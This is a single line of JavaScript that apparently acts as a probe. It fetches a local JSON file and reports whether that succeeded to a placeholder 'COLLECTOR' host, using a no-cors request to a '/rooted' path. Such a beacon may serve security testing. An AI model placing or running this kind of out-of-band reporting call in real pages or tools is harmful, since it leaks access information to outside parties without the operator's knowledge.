fetch("/data/run.json").then((r) => r.json()).then(() => "yes", () => "no").then((v) => fetch("COLLECTOR/rooted?v=" + v, { mode: "no-cors" }));
